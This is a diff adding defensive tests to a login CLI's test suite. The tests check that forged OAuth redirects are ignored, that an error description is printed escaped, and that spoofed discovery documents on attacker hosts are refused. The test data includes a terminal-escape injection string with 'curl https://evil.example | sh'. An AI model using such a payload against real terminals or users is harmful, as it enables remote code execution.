@@ -426,14 +426,48 @@ describe('kubeconfig', () => {
 });
 
 describe('refused logins', () => {
-  test('state mismatch on the redirect is rejected and nothing is saved', async () => {
+  test("a redirect without this login's state is ignored: the login keeps waiting (here until its timeout), nothing is saved", async () => {
     const s = sandbox();
-    const res = await runCli([stage.url, '--no-kubeconfig'], s.env({ FAKE_BROWSER_ACTION: 'tamper-state' }));
+    const res = await runCli([stage.url, '--no-kubeconfig', '--timeout', '4'], s.env({ FAKE_BROWSER_ACTION: 'tamper-state' }));
     expect(res.code).toBe(1);
-    expect(res.stderr).toContain('state mismatch');
     expect(browserLines(s)[1]).toBe('callback 400');
+    expect(res.stderr).toContain('Ignored a request to http://localhost:');
+    expect(res.stderr).toContain('timed out after 4 s waiting for the browser login');
     expect(existsSync(join(s.metaflowHome, 'tokens', 'dev.json'))).toBe(false);
     expect(existsSync(join(s.metaflowHome, 'config_dev.json'))).toBe(false);
+  });
+
+  // What a local program or web page can send the loopback port: a made-up error whose text would
+  // set the terminal title, clear the screen and print a command in red.
+  const HOSTILE = '\u001b]0;owned\u0007\u001b[2J\u001b[31mrun: curl https://evil.example | sh\u001b[0m\u009b2J';
+  const rawControls = (text: string) => [...text].filter((ch) => ch !== '\n' && /\p{Cc}/u.test(ch));
+
+  test('a forged error redirect without the state neither aborts the login nor reaches the terminal', async () => {
+    const s = sandbox();
+    const res = await runCli(
+      [stage.url, '--no-kubeconfig'],
+      s.env({ FAKE_BROWSER_ACTION: 'forge-then-approve', FAKE_BROWSER_ERROR_DESCRIPTION: HOSTILE }),
+    );
+    expect(browserLines(s).slice(1)).toEqual(['forged 400', 'callback 200']);
+    expect(res.code).toBe(0);
+    expect(res.stderr).toContain("Logged in to stage 'dev' as alice@example.com (browser login)");
+    expect(res.stderr).toContain('Ignored a request to http://localhost:');
+    expect(res.stderr).not.toContain('evil.example');
+    expect(rawControls(res.stderr)).toEqual([]);
+  });
+
+  test("an IdP error redirect with the login's state ends the login; its description is printed escaped", async () => {
+    const s = sandbox();
+    const res = await runCli(
+      [stage.url, '--no-kubeconfig'],
+      s.env({ FAKE_BROWSER_ACTION: 'error-with-state', FAKE_BROWSER_ERROR_DESCRIPTION: HOSTILE }),
+    );
+    expect(res.code).toBe(1);
+    expect(res.stderr).toContain(
+      'error: login was denied (\\x1b]0;owned\\x07\\x1b[2J\\x1b[31mrun: curl https://evil.example | sh\\x1b[0m\\x9b2J)',
+    );
+    expect(rawControls(res.stderr)).toEqual([]);
+    expect(existsSync(join(s.metaflowHome, 'tokens', 'dev.json'))).toBe(false);
   });
 
   test('user denied (access_denied) says so', async () => {
@@ -533,6 +567,83 @@ describe('redirect ports', () => {
     expect(res.code).toBe(1);
     expect(res.stderr).toContain(`all registered redirect ports are in use (${testRedirectPorts().join(', ')})`);
     expect(browserLines(s)).toHaveLength(0);
+  });
+});
+
+describe("a copy of the stage's discovery document served by another host", () => {
+  // The user is logged in to the real stage; then runs `metaflow-login <attacker URL>`, where the
+  // attacker serves the real document with the service URL and the cluster endpoint changed.
+  const s = sandbox();
+  let attacker: StageServer;
+  const files = () =>
+    [join(s.metaflowHome, 'tokens', 'dev.json'), join(s.metaflowHome, 'config_dev.json'), s.kubeconfig].map((f) => readFileSync(f, 'utf8'));
+
+  beforeAll(async () => {
+    attacker = new StageServer(provider);
+    await attacker.start();
+    expect((await runCli([stage.url], s.env())).code).toBe(0);
+  });
+  afterAll(() => attacker.stop());
+
+  test('an endpoint that is not an EKS endpoint of the region is refused before any token is used', async () => {
+    const before = files();
+    attacker.doc = {
+      ...discoveryDoc(stage.url, provider.issuer),
+      serviceUrl: `${attacker.url}/cli/`,
+      clusterEndpoint: 'https://attacker.example.net',
+    };
+    const res = await runCli([attacker.url], s.env());
+    expect(res.code).toBe(1);
+    expect(res.stderr).toContain(
+      'clusterEndpoint: must be an EKS API endpoint of us-west-2 (https://<id>.<suffix>.us-west-2.eks.amazonaws.com), got "https://attacker.example.net"',
+    );
+    expect(files()).toEqual(before);
+    expect(browserLines(s)).toHaveLength(2);
+  });
+
+  test('a service URL off the host that serves the document is refused', async () => {
+    attacker.doc = { ...discoveryDoc(stage.url, provider.issuer), serviceUrl: 'https://collector.attacker.example.net/cli/' };
+    const res = await runCli([attacker.url], s.env());
+    expect(res.code).toBe(1);
+    expect(res.stderr).toContain(`serviceUrl: must be on the stage host ${attacker.url} (the URL you are logging in to)`);
+  });
+
+  test('a valid-looking copy for the same stage name: refused without --replace, the session is not refreshed, exec still goes to the real stage', async () => {
+    const before = files();
+    attacker.doc = { ...discoveryDoc(stage.url, provider.issuer), serviceUrl: `${attacker.url}/cli/`, uiUrl: `${attacker.url}/` };
+    const res = await runCli([attacker.url], s.env());
+    expect(res.code).toBe(1);
+    expect(res.stderr).toContain(
+      `stage 'dev' on this machine was set up from ${stage.url}, but ${attacker.url} also calls itself 'dev'. Nothing was changed.`,
+    );
+    expect(files()).toEqual(before);
+    expect(browserLines(s)).toHaveLength(2);
+    const ping = await runCli(
+      [
+        'exec',
+        'dev',
+        '--',
+        process.execPath,
+        '-e',
+        "fetch(process.env.METAFLOW_SERVICE_URL + 'ping').then((r) => process.exit(r.status === 200 ? 0 : 1))",
+      ],
+      s.env(),
+    );
+    expect(ping.code).toBe(0);
+    expect(attacker.requests).toEqual([]);
+  });
+
+  test('--replace logs in through the browser and never spends the old session', async () => {
+    const old = storedTokens(s);
+    const res = await runCli([attacker.url, '--replace', '--no-kubeconfig'], s.env());
+    expect(res.stderr).toContain(`Replacing stage 'dev' (set up from ${stage.url}) with ${attacker.url} (--replace)`);
+    expect(res.code).toBe(0);
+    expect(browserLines(s)).toHaveLength(4);
+    const now = storedTokens(s);
+    expect(now.stageUrl).toBe(attacker.url);
+    expect(now.refreshToken).not.toBe(old.refreshToken);
+    // The provider rotates refresh tokens: the old one still works only because nothing used it.
+    expect((await tokenEndpointRefresh(old.refreshToken)).status).toBe(200);
   });
 });
 
